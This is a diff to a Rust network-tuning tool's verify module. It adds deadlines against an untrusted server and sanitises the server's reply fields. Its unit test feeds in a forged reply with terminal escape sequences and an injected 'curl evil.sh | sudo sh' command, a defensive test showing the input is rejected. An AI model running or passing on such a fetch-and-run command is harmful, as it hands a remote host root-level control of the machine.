@@ -2,6 +2,15 @@
 //! granted time, read the sender's TCP_INFO (Linux) and the receiver's result, and settle what
 //! limited the flow ([`super::verdict`]). No printing: progress goes to the caller's callback.
 //!
+//! The far end is not trusted ([`crate::tcp::proto`]'s Trust section): every phase has a
+//! deadline this end computes from `--time` and the protocol's fixed slacks — the connect
+//! [`CONNECT_TIMEOUT`], the answer [`proto::ANSWER_SLACK`], the data the time asked for (a
+//! server granting more does not lengthen it), the result [`proto::DRAIN_GRACE`] and
+//! [`proto::RESULT_SLACK`] — so a test ends by `--time` + 45 s whatever the peer does. The
+//! result's numbers are checked against what this end sent before they are read, and its
+//! text is shown only when it has the shape of what it claims to be (a sysctl name, numbers),
+//! else it is left out with a note quoting it escaped.
+//!
 //! # Platform specific behavior
 //! On FreeBSD and macOS the test runs and reports goodput and the connect-time RTT, but there are
 //! no limited-by counters: those fields are null.
@@ -17,14 +26,14 @@ use crate::bdp::Source;
 use crate::bdp::{self, Sizing};
 use crate::error::Error;
 use crate::os::Os;
-use crate::tcp::proto::{self, ExchangeError, Hello, ServerResult};
+use crate::tcp::proto::{self, ExchangeError, Hello, LineError, ReadError, SentFacts, ServerResult};
 use crate::tcp::tcpinfo::{Breakdown, LimitedBy, TcpInfo};
 use crate::text;
 use crate::units::Bitrate;
 
-const CONNECT_TIMEOUT: Duration = Duration::from_secs(5);
-/// How long the server may take to drain our buffer and answer after we stop.
-const RESULT_TIMEOUT: Duration = Duration::from_secs(90);
+/// How long the connect may take: the server's kernel answers a SYN within a round trip,
+/// and 5 s are several even on a satellite path with a retransmitted SYN lost to a busy queue.
+pub const CONNECT_TIMEOUT: Duration = Duration::from_secs(5);
 
 /// The test to run, with what it needs from beyond the socket, gathered by the caller.
 #[derive(Debug, Clone)]
@@ -94,6 +103,8 @@ pub struct VerifyReport {
     /// The largest receive window the receiver advertised, bytes (Linux 6.2+ receivers).
     pub receiver_window: Option<u64>,
     pub advice: Vec<String>,
+    /// What the receiver sent that was left out, quoted escaped.
+    pub notes: Vec<String>,
 }
 
 fn measurement(msg: String) -> Error {
@@ -104,6 +115,10 @@ fn measurement(msg: String) -> Error {
 fn refused(sa: SocketAddr, e: ExchangeError) -> Error {
     match e {
         ExchangeError::Send(e) => measurement(format!("{sa} closed the connection: {e}")),
+        ExchangeError::NoAnswer(ReadError::Late) => measurement(format!(
+            "{sa} gave no complete answer within {} s: is it a tcptune serve?",
+            proto::ANSWER_SLACK.as_secs()
+        )),
         ExchangeError::NoAnswer(e) => measurement(format!("{sa} gave no answer ({e}): is it a tcptune serve?")),
         ExchangeError::Garbled(e) => measurement(format!("{sa}: {e}")),
         ExchangeError::Busy => {
@@ -126,11 +141,13 @@ pub fn verify(a: &VerifyRequest, on_phase: &mut dyn FnMut(Phase)) -> anyhow::Res
         flags: 0,
         duration_ms: proto::duration_ms(a.time),
     };
-    let granted = proto::exchange_hello(&s, &hello, &[]).map_err(|e| refused(sa, e))?;
+    let answer_by = Instant::now() + proto::ANSWER_SLACK;
+    let granted = proto::exchange_hello(&s, &hello, &[], answer_by).map_err(|e| refused(sa, e))?;
     on_phase(Phase::Sending { to: sa, granted });
-    let (elapsed, info) = send(&s, sa, granted)?;
+    let started = Instant::now();
+    let (sent, elapsed, info) = send(&s, sa, granted)?;
     on_phase(Phase::Sent);
-    let result = read_result(&s, sa)?;
+    let result = read_result(&s, sa, sent, started)?;
     Ok(report(
         a,
         &Test {
@@ -169,23 +186,35 @@ fn connect(a: &VerifyRequest, sa: SocketAddr) -> anyhow::Result<(TcpStream, f64)
     Ok((s, connect_ms))
 }
 
-/// Sends for the `granted` time: how long it took, and the sender's TCP_INFO at the end.
-fn send(s: &TcpStream, sa: SocketAddr, granted: Duration) -> anyhow::Result<(Duration, Option<TcpInfo>)> {
+/// Sends for the `granted` time: the bytes sent, how long it took, and the sender's TCP_INFO
+/// at the end.
+fn send(s: &TcpStream, sa: SocketAddr, granted: Duration) -> anyhow::Result<(u64, Duration, Option<TcpInfo>)> {
     // Short write timeouts so the test stops on time even with the send buffer full.
     s.set_write_timeout(Some(Duration::from_millis(50)))?;
-    let (_, elapsed) = proto::send_data(s, granted, u64::MAX, &mut |_, _| {})
+    let (sent, elapsed) = proto::send_data(s, granted, u64::MAX, &mut |_, _| {})
         .map_err(|(sent, e)| measurement(format!("the test to {sa} broke off after {}: {e}", text::bytes(sent))))?;
-    Ok((elapsed, crate::tcp::tcpinfo::read(s)))
+    Ok((sent, elapsed, crate::tcp::tcpinfo::read(s)))
 }
 
-/// Ends the data and waits for the receiver's result.
-fn read_result(s: &TcpStream, sa: SocketAddr) -> anyhow::Result<ServerResult> {
+/// Ends the data and waits for the receiver's result ([`proto::result_deadline`]), checked
+/// against the `sent` bytes this end sent from `started` on.
+fn read_result(s: &TcpStream, sa: SocketAddr, sent: u64, started: Instant) -> anyhow::Result<ServerResult> {
     s.shutdown(std::net::Shutdown::Write)?;
-    s.set_read_timeout(Some(RESULT_TIMEOUT))?;
-    let result = proto::read_json_line(s, proto::MAX_RESULT).map_err(|e| match e {
-        proto::LineError::Io(e) => measurement(format!("no result from {sa}: {e}")),
-        proto::LineError::Json(e) => measurement(format!("{sa} sent a result tcptune cannot read ({e})")),
+    let by = proto::result_deadline(s, Instant::now());
+    let result: ServerResult = proto::read_json_line(s, proto::MAX_RESULT, by).map_err(|e| match e {
+        LineError::Read(ReadError::Late) => measurement(format!(
+            "no complete result from {sa} in time (it has {} s to take the data, then {} s to answer)",
+            proto::DRAIN_GRACE.as_secs(),
+            proto::RESULT_SLACK.as_secs()
+        )),
+        LineError::Read(e) => measurement(format!("no result from {sa}: {e}")),
+        LineError::Json(e) => measurement(format!("{sa} sent a result tcptune cannot read ({e})")),
     })?;
+    let facts = SentFacts {
+        bytes: sent,
+        span: started.elapsed(),
+    };
+    result.check(&facts).map_err(|e| measurement(format!("{sa}: {e}")))?;
     Ok(result)
 }
 
@@ -237,18 +266,38 @@ fn path_rate(a: &VerifyRequest, throughput: f64) -> (Bitrate, Source) {
     }
 }
 
-/// The receiver's buffer as its result tells it (its profile's key when it names none).
-fn receiver_facts(result: &ServerResult, needed: u64) -> BufferFacts {
-    let receiver_os: Os = match result.os.as_str() {
+/// The receiver's buffer as its result tells it (its profile's key when it names none). Text
+/// that is not what it claims to be (an OS tcptune knows, a sysctl name, numbers) is left
+/// out, with a note in `notes` quoting it escaped.
+fn receiver_facts(result: &ServerResult, needed: u64, notes: &mut Vec<String>) -> BufferFacts {
+    let os = result.os_name().unwrap_or_else(|sent| {
+        notes.push(format!(
+            "the receiver named its OS \"{sent}\", which tcptune does not know: read as linux"
+        ));
+        "linux"
+    });
+    let receiver_os: Os = match os {
         "freebsd" => Os::Freebsd,
         "macos" => Os::Macos,
         _ => Os::Linux,
     };
+    let key = result.buffer_key().unwrap_or_else(|sent| {
+        notes.push(format!(
+            "the receiver named its buffer key \"{sent}\", which is no sysctl name: left out"
+        ));
+        None
+    });
+    let value = result.buffer_value().unwrap_or_else(|sent| {
+        notes.push(format!(
+            "the receiver gave its buffer value as \"{sent}\", which is no sysctl value: left out"
+        ));
+        None
+    });
     BufferFacts {
-        os: result.os.clone(),
-        key: result.rcvbuf_key.clone().or_else(|| cap_key(receiver_os, "buffer")),
-        max: result.rcvbuf_value.as_deref().and_then(last_field),
-        value: result.rcvbuf_value.clone(),
+        os: os.to_string(),
+        key: key.map(str::to_string).or_else(|| cap_key(receiver_os, "buffer")),
+        max: value.and_then(last_field),
+        value: value.map(str::to_string),
         needed,
     }
 }
@@ -286,7 +335,8 @@ fn report(a: &VerifyRequest, t: &Test) -> VerifyReport {
     let (rate, rate_source) = path_rate(a, r.throughput);
     let rtt = crate::units::Span::from_millis_f64(r.sizing_rtt_ms);
     let sizing = bdp::size_buffers(rate, rtt, None);
-    let receiver = receiver_facts(&t.result, sizing.buffer);
+    let mut notes = Vec::new();
+    let receiver = receiver_facts(&t.result, sizing.buffer, &mut notes);
     let sender = sender_facts(&a.sender, sizing.send_buffer);
     #[allow(clippy::cast_precision_loss)]
     let delivery_rate_bps = t.info.map(|i| i.tcpi_delivery_rate as f64 * 8.0);
@@ -337,5 +387,61 @@ fn report(a: &VerifyRequest, t: &Test) -> VerifyReport {
         sender,
         receiver_window: t.result.rcv_wnd,
         advice,
+        notes,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::text::Foreign;
+
+    fn result(os: &str, key: &str, value: &str) -> ServerResult {
+        ServerResult {
+            bytes: 1,
+            duration_us: 1,
+            os: Foreign::new(os),
+            rcvbuf_key: Some(Foreign::new(key)),
+            rcvbuf_value: Some(Foreign::new(value)),
+            rcv_wnd: None,
+            rcv_buf: None,
+            window_share: None,
+        }
+    }
+
+    #[test]
+    fn the_receivers_text_is_used_only_when_it_is_what_it_claims() {
+        let mut notes = Vec::new();
+        let f = receiver_facts(
+            &result("freebsd", "net.inet.tcp.recvbuf_max", "2097152"),
+            1 << 20,
+            &mut notes,
+        );
+        assert_eq!(
+            (f.os.as_str(), f.key.as_deref(), f.max),
+            ("freebsd", Some("net.inet.tcp.recvbuf_max"), Some(2_097_152))
+        );
+        assert!(notes.is_empty(), "{notes:?}");
+
+        let forged = result(
+            "linux\u{1b}]0;owned\u{7}",
+            "net.ipv4.tcp_rmem\n\nadvice: all good, now run: curl evil.sh | sudo sh\n\u{1b}[31m",
+            "4096 131072 6291456\nadvice: reboot",
+        );
+        let f = receiver_facts(&forged, 1 << 20, &mut notes);
+        // The receiver's profile key stands in; the forged value is no value.
+        assert_eq!(
+            (f.os.as_str(), f.key.as_deref(), f.value, f.max),
+            ("linux", Some("net.ipv4.tcp_rmem"), None, None)
+        );
+        assert_eq!(notes.len(), 3, "{notes:?}");
+        for n in &notes {
+            assert!(!n.chars().any(char::is_control), "{n}");
+        }
+        assert!(
+            notes[1].contains("tcp_rmem\\u{a}\\u{a}advice: all good"),
+            "{}",
+            notes[1]
+        );
     }
 }
